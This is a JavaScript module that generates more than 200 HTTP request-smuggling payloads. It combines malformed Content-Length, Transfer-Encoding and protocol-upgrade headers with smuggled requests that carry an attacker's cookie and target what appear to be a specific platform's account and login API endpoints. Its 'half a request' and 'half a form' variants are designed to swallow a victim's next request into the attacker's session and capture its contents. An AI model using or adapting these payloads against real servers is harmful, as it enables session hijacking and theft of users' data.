/**
 * Request smuggling: requests whose end two servers may see at different positions. Each framing trick is combined with
 * each smuggled request, more than 200 in all.
 * @module
 */

const LENGTHS = [
  (n) => `Content-Length: ${n}`,
  (n) => `content-length:${n}`,
  (n) => `Content-Length:\t${n}`,
  (n) => `Content-Length : ${n}`,
  (n) => `Content-Length: +${n}`,
  (n) => `Content-Length: 0${n}`,
  (n) => `Content-Length: ${n}, ${n}`,
  (n) => `Content-Length: 0\r\nContent-Length: ${n}`,
  (n) => `Content-Length: ${n}\r\nContent-Length: 0`,
  (n) => `Connection: content-length\r\nContent-Length: ${n}`,
  (n) => `X: y\r\n Content-Length: ${n}`,
];
const ENCODINGS = [
  'Transfer-Encoding: chunked',
  'transfer-encoding:CHUNKED',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'X: y\r\n\tTransfer-Encoding: chunked',
  'Connection: transfer-encoding\r\nTransfer-Encoding: chunked',
];
const UPGRADES = [
  'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA',
  'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
  'Connection: Upgrade\r\nUpgrade: TLS/1.0, HTTP/2.0',
  'Connection: keep-alive, upgrade\r\nUpgrade: h2c\r\nContent-Length: 0',
];

const chunked = (body) => `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;

/**
 * @param {{ host: string, origin: string, cookie: string }} attacker whose session a smuggled request carries
 * @returns {ReadonlyArray<{ name: string, bytes: string }>}
 */
export function desyncVariants({ host, origin, cookie }) {
  const own = `Host: ${host}\r\nOrigin: ${origin}\r\nSec-Fetch-Site: same-origin\r\nCookie: ${cookie}`;
  const smuggled = {
    'a whole request': `GET /api/account.getInfo?v=2.35&locale=en HTTP/1.1\r\n${own}\r\n\r\n`,
    'a control': `POST /__sandbox/audit HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 0\r\n\r\n`,
    // The next request on the connection becomes a header value of this one, and is answered as the attacker's.
    'half a request': `GET /api/account.getInfo?v=2.35&locale=en HTTP/1.1\r\n${own}\r\nX-Swallow: `,
    'half a form': `POST /api/account.changelocale?v=2.35&locale=en HTTP/1.1\r\n${own}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 200\r\n\r\nlocale=`,
  };
  const starts = [
    'GET /api/metadata.get?v=2.35&locale=en',
    'HEAD /api/metadata.get?v=2.35&locale=en',
    'POST /api/auth.login?v=2.35&locale=en',
    'GET /platform/game/none/demo',
    'GET /',
  ];
  const variants = [];
  const add = (trick, start, what, lines, body) =>
    variants.push({
      name: `${start.split(' ')[0]} ${start.split(/[ ?]/)[1]}, ${trick}, ${what}`,
      bytes: `${start} HTTP/1.1\r\n${own}\r\n${lines}\r\n\r\n${body}`,
    });
  for (const [what, hidden] of Object.entries(smuggled)) {
    for (const start of starts.slice(0, 2)) {
      for (const length of LENGTHS) add(length('n'), start, what, length(hidden.length), hidden);
      for (const encoding of ENCODINGS) add(encoding, start, what, encoding, chunked(hidden));
    }
    for (const encoding of ENCODINGS)
      add(`${encoding} beside a length`, starts[2], what, `Content-Length: 5\r\n${encoding}`, `0\r\n\r\n${hidden}`);
    for (const upgrade of UPGRADES) add(upgrade, starts[0], what, upgrade, hidden);
    for (const start of starts.slice(3)) add('a length', start, what, `Content-Length: ${hidden.length}`, hidden);
    // No framing trick: the second request on the connection is the attacker's own and does no harm.
    add('pipelined', starts[0], what, 'Content-Length: 0', hidden);
  }
  return variants;
}
